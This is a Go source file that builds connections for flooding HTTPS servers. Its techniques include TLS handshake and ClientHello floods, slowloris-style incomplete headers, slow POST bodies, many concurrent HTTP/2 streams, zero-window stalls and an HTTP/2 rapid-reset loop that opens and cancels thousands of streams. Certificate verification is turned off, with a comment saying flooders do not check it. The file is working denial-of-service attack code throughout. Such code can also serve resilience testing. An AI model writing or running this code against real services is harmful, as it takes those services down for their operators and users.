package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"errors"
	"io"
	"net"
	"net/http"
	"strings"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// way brings a connection to where it is held. What it gives is read until its end.
type way func(ctx context.Context, conn net.Conn, host string) (io.Reader, error)

var ways = map[string]way{
	"handshake": func(_ context.Context, conn net.Conn, _ string) (io.Reader, error) { return conn, nil },
	"request":   func(ctx context.Context, conn net.Conn, _ string) (io.Reader, error) { return send(ctx, conn, "") },
	"hello": func(_ context.Context, conn net.Conn, _ string) (io.Reader, error) {
		_, err := conn.Write(hello())
		return conn, err
	},
	"kept": kept,
	"header": func(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
		return send(ctx, conn, "GET / HTTP/1.1\r\nHost: "+host+"\r\nX-Slow: ")
	},
	"body": func(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
		return send(ctx, conn, "POST /oauth/v1/token HTTP/1.1\r\nHost: "+host+"\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\na=")
	},
	"streams": func(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
		return streams(ctx, conn, host, call{method: "POST", path: "/oauth/v1/token", count: 100, window: 65_535})
	},
	"window": func(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
		return streams(ctx, conn, host, call{method: "GET", path: "/my", count: 100, end: true})
	},
	"resets": func(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
		return streams(ctx, conn, host, call{method: "GET", path: "/my", count: 20_000, window: 65_535, end: true, reset: true})
	},
}

// requestsOf is by how much fewer connections of a way are opened in a second, for the requests on each.
var requestsOf = map[string]int{"handshake": 1, "hello": 1, "request": 1, "kept": 1, "header": 1, "body": 1, "streams": 100, "window": 100, "resets": 700}

// secure does the handshake. Whoever floods a server does not look at its certificate.
func secure(ctx context.Context, conn net.Conn, protocol string) (*tls.Conn, error) {
	over := tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: []string{protocol}})
	return over, over.HandshakeContext(ctx)
}

func send(ctx context.Context, conn net.Conn, text string) (io.Reader, error) {
	over, err := secure(ctx, conn, "http/1.1")
	if err == nil && text != "" {
		_, err = io.WriteString(over, text)
	}
	return over, err
}

// hello is the first message of a handshake: to send it costs next to nothing, to answer it costs a signature.
var hello = sync.OnceValue(func() []byte {
	near, far := net.Pipe()
	go func() {
		_ = tls.Client(near, &tls.Config{InsecureSkipVerify: true}).Handshake() // ends with far
	}()
	first := make([]byte, 16<<10)
	n, _ := far.Read(first)
	_ = far.Close()
	return first[:n]
})

// kept is a connection that has had its answer and stays for a next request.
func kept(ctx context.Context, conn net.Conn, host string) (io.Reader, error) {
	over, err := send(ctx, conn, "GET /healthz HTTP/1.1\r\nHost: "+host+"\r\n\r\n")
	if err != nil {
		return nil, err
	}
	rest := bufio.NewReaderSize(over, 512)
	answer, err := http.ReadResponse(rest, nil)
	if err != nil {
		return nil, err
	}
	_, err = io.Copy(io.Discard, answer.Body)
	return rest, errors.Join(err, answer.Body.Close())
}

// call is what is asked on each stream of an HTTP/2 connection.
type call struct {
	method, path string
	count        int
	window       uint32 // what the caller takes of an answer before it says more
	end          bool   // without a body
	reset        bool
}

func streams(ctx context.Context, conn net.Conn, host string, c call) (io.Reader, error) {
	over, err := secure(ctx, conn, "h2")
	if err != nil {
		return nil, err
	}
	if _, err := io.WriteString(over, http2.ClientPreface); err != nil {
		return nil, err
	}
	f := http2.NewFramer(over, nil)
	if err := f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: c.window}); err != nil {
		return nil, err
	}
	for i := range c.count {
		if err := c.open(f, uint32(2*i+1), host); err != nil {
			return over, nil // what was sent before is held
		}
	}
	return over, nil
}

func (c call) open(f *http2.Framer, id uint32, host string) error {
	var block strings.Builder
	e := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", c.method}, {":scheme", "https"}, {":authority", host}, {":path", c.path}, {"content-type", "application/x-www-form-urlencoded"}} {
		_ = e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]}) // into memory
	}
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: []byte(block.String()), EndHeaders: true, EndStream: c.end}); err != nil || !c.reset {
		return err
	}
	return f.WriteRSTStream(id, http2.ErrCodeCancel)
}
